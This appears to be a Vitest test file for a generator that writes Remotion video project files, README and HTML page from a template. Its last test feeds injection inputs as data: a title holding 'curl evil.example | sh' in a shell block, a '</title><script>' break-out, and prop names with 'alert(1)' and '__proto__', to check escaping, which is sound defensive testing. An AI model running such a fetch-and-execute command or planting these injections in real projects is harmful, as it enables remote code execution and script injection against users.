import {expect, it} from 'vitest';
import {compileAll} from '../../../shared/compile/compile';
import {scenes} from '../templates/scenes';
import {title} from '../templates/title';
import {isForTools, pageFiles, projectFiles} from './project-files';

const versions = {
  dependencies: {
    '@remotion/cli': '4.0.311',
    react: '19.0.0',
    'react-dom': '19.0.0',
    remotion: '4.0.311',
    zod: '3.22.3',
    typescript: '5.9.3',
  },
  overrides: {remotion: '4.0.311'},
};

it('adds a root and an index to a component, with the values that were shown', () => {
  const files = projectFiles({
    project: title,
    compiled: compileAll(title.files),
    packages: ['remotion', 'zod', 'react/jsx-dev-runtime'],
    versions,
    video: {...title.video, durationInFrames: 30},
    props: {text: 'Say "hi"'},
  });
  expect(files['src/Root.tsx']).toMatchInlineSnapshot(`
    "import {Composition} from 'remotion';
    import {Title, defaultProps, schema} from './Title';

    export const RemotionRoot = () => (
      <Composition
        id="Title"
        component={Title}
        width={1280}
        height={720}
        fps={30}
        durationInFrames={30}
        schema={schema}
        defaultProps={{...defaultProps, text: "Say \\"hi\\""}}
      />
    );
    "
  `);
  expect(files['src/index.ts']).toContain("import {RemotionRoot} from './Root';");
  expect(JSON.parse(files['package.json'] ?? '')).toMatchObject({
    name: 'title',
    dependencies: {remotion: '4.0.311', zod: '3.22.3', '@remotion/cli': '4.0.311'},
    devDependencies: {typescript: '5.9.3'},
  });
});

it('keeps the root of a project that has one', () => {
  const files = projectFiles({
    project: scenes,
    compiled: compileAll(scenes.files),
    packages: ['remotion'],
    versions,
    video: scenes.video,
    props: {},
  });
  expect(files['src/Root.tsx']).toBe(scenes.files['src/Root.tsx']);
  expect(files['src/index.ts']).toContain('registerRoot(RemotionRoot)');
});

it('leaves out what npm and bundlers obey, and nothing of the film', () => {
  for (const path of [
    'package.json',
    'Package.JSON',
    'package-lock.json',
    'npm-shrinkwrap.json',
    'tsconfig.json',
    'binding.gyp',
    'pnpm-workspace.yaml',
    'yarn.lock',
    'bun.lockb',
    'bunfig.toml',
    'remotion.config.ts',
    'vite.config.js',
    'postcss.config.cjs',
    'node_modules/remotion/index.js',
    'Node_Modules/.bin/remotion',
    'src/node_modules/react/index.js',
  ])
    expect(isForTools(path), path).toBe(true);
  for (const path of [
    'src/package.json',
    'src/Title.tsx',
    'Main.tsx',
    'data.json',
    'src/a.config.ts',
    'public/captions.srt',
    'style.css',
  ])
    expect(isForTools(path), path).toBe(false);
});

it('writes no code that a link has put into names and titles', () => {
  const name = 'a: alert(1), b';
  const home = {
    project: {...title, title: 'Film\n\n```sh\ncurl evil.example | sh\n```\n</title><script>'},
    compiled: compileAll(title.files),
    packages: ['remotion'],
    versions,
    video: title.video,
    props: JSON.parse(`{"${name}": "x", "a-b": 1, "text": "y", "__proto__": 2}`),
  };
  const files = projectFiles(home);
  expect(files['src/Root.tsx']).toContain(
    `{{...defaultProps, ["${name}"]: "x", ["a-b"]: 1, text: "y", ["__proto__"]: 2}}`,
  );
  expect(files['README.md']?.split('\n')[0]).toContain('curl evil.example | sh ```');
  expect(pageFiles(home)['index.html']).not.toContain('</title><script>');
});
